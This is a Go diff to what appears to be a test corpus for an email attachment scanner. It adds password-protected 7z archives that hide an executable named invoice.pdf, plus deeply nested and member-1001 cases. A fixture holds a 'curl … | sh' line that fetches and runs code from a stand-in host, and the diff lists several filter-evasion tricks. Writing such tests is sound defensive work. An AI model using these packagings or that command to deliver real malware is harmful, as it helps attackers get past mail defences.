@@ -189,12 +189,24 @@ func XZ(data []byte) []byte {
 }
 
 // SevenZip builds a 7z archive with the 7z program (p7zip-full).
-func SevenZip(name string, data []byte) []byte {
+func SevenZip(name string, data []byte) []byte { return sevenZip(name, data) }
+
+// SevenZipEncrypted is SevenZip with a password, its names encrypted too
+// (-mhe) or not.
+func SevenZipEncrypted(name string, data []byte, headers bool) []byte {
+	args := []string{"-pinvoice2026"}
+	if headers {
+		args = append(args, "-mhe=on")
+	}
+	return sevenZip(name, data, args...)
+}
+
+func sevenZip(name string, data []byte, args ...string) []byte {
 	dir, err := os.MkdirTemp("", "corpus7z")
 	must(err)
 	defer os.RemoveAll(dir)
 	must(os.WriteFile(filepath.Join(dir, name), data, 0o644))
-	cmd := exec.Command("7z", "a", "-bd", "-y", "a.7z", name)
+	cmd := exec.Command("7z", append(append([]string{"a", "-bd", "-y"}, args...), "a.7z", name)...)
 	cmd.Dir = dir
 	if out, err := cmd.CombinedOutput(); err != nil {
 		panic(fmt.Sprintf("7z: %v: %s", err, out))
@@ -372,6 +384,8 @@ func Hostile() []Case {
 	add("bzip2-single", "report.exe.bz2", Multipart("b", text, Attach("application/x-bzip2", "report.exe.bz2", Bzip2(pe))))
 	add("xz-single", "report.exe.xz", Multipart("b", text, Attach("application/x-xz", "report.exe.xz", XZ(pe))))
 	add("7z", "report.exe in a 7z archive", Multipart("b", text, Attach("application/x-7z-compressed", "archive.7z", SevenZip("report.exe", pe))))
+	add("7z-encrypted", "a program named invoice.pdf in a password-protected 7z", Multipart("b", text, Attach("application/x-7z-compressed", "invoice.7z", SevenZipEncrypted("invoice.pdf", pe, false))))
+	add("7z-encrypted-names", "a password-protected 7z with encrypted names (-mhe)", Multipart("b", text, Attach("application/x-7z-compressed", "invoice.7z", SevenZipEncrypted("invoice.pdf", pe, true))))
 	add("rar", "report.exe in a RAR archive", Multipart("b", text, Attach("application/vnd.rar", "archive.rar", RAR("report.exe", pe))))
 	add("iso", "report.exe in an ISO 9660 image", Multipart("b", text, Attach("application/octet-stream", "invoice.img", ISO("report.exe", pe))))
 	add("cab", "a program in a Cabinet file", Multipart("b", text, Attach("application/vnd.ms-cab-compressed", "setup.cab", CAB(pe))))
@@ -382,6 +396,8 @@ func Hostile() []Case {
 		nest(12, Attach("text/plain", "notes.txt", []byte("#!/bin/sh\ncurl -s http://evil.example/x | sh\n"))))
 	add("js-nested-12", "a .js script nested 12 deep", nest(12, Attach("application/octet-stream", "invoice.js", []byte(Script))))
 	add("js-part-1001", "a .js script as part 1001", Multipart("b", append(many, Attach("application/octet-stream", "invoice.js", []byte(Script)))...))
+	add("gzip-nested-12", "report.exe.gz nested 12 deep", nest(12, Attach("application/gzip", "report.exe.gz", Gzip("report.exe", pe))))
+	add("js-zip-member-1001", "a .js as zip member 1001", Multipart("b", text, Attach("application/zip", "docs.zip", Zip(append(members, Member{Name: "invoice.js", Data: []byte(Script), Method: zip.Deflate})...))))
 	add("b64-junk-chars", "base64 with characters outside the alphabet, which clients skip",
 		Multipart("b", text, Leaf("Content-Type: application/octet-stream; name=\"report.pdf\"\r\nContent-Transfer-Encoding: base64", "!"+strings.Replace(B64(pe), "AAAA", "AA*AA", 3))))
 	add("phish-qp-nested-12", "HTML password-phishing page in quoted-printable, nested 12 deep",
